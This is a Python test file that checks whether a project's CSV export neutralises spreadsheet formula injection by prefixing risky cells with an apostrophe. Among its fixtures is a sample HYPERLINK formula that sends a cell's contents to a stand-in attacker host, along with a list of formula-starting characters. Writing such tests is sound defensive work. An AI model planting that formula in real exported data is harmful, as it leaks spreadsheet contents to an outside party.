"""CSV is safe to open in a spreadsheet, and is otherwise what is on record."""

import csv
import io
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given

from made import article, records
from onrecord.corpus.commitments import Ledger
from onrecord.export.csv import write_commitments_csv, write_csv
from onrecord.records import DateInterval, Kind, Record, Source, SourceKind, Span, Stance, Statement, Words

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Vane")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def table(record: Record) -> list[dict[str, str]]:
    """The rows that a spreadsheet reads."""
    file = io.BytesIO()
    write_csv([record], file)
    return list(csv.DictReader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_no_text_of_an_article_is_run_as_a_formula(start: str) -> None:
    """A cell that a spreadsheet would run is prefixed with an apostrophe and otherwise unchanged."""
    read = replace(article("Vane said it."), title=f"{start}1+1", outlet=f"{start}cmd", url=f"{start}A1")
    words = Words((Span(0, 4),), f"{start}SUM(A1)")
    statement = Statement("s1", Kind.DIRECT, Stance.ASSERTS, words, Source(words, SourceKind.PERSON), words)
    (row,) = table(Record(read, (statement,)))
    for column in ("title", "outlet", "url", "source", "cue", "content"):
        assert row[column].startswith(f"'{start}")
    assert row["content"] == f"'{start}SUM(A1)"
    assert (row["content_spans"], row["confidence"], row["kind"]) == ("0-4", "1.0", "direct")


def test_no_commitment_is_run_as_a_formula() -> None:
    """Sources and contents are other people's text; dates stay dates."""
    read = article(f"Vane promised {FORMULA}", id="=1", published=DateInterval(date(2024, 1, 19), date(2024, 1, 19)))
    spans = ((0, 4), (5, 13), (14, len(read.text)))
    source, cue, content = (Words.of(read.text, [Span(*span)]) for span in spans)
    due = DateInterval(date(2024, 2, 1), date(2024, 2, 3))
    promise = Statement(
        "s1", Kind.INDIRECT, Stance.COMMITS, content, Source(source, SourceKind.PERSON), cue, said=due, due=due
    )
    file = io.BytesIO()
    write_commitments_csv(Ledger().commitments([Record(read, (promise,))], as_of=date(2024, 6, 1)), file)
    (row,) = csv.DictReader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline=""))
    assert row["what"] == f"'{FORMULA}"
    assert row["article"] == "'=1"
    assert (row["who"], row["due_start"], row["due_end"]) == ("Vane", "2024-02-01", "2024-02-03")


@given(records())
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(record: Record) -> None:
    """Whatever the article; without its apostrophe, a cell has the words of the record."""
    rows = table(record)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(STARTS)]
    for row, statement in zip(rows, record.statements, strict=True):
        words = statement.content.text
        assert row["content"] == (f"'{words}" if words.startswith(STARTS) else words)
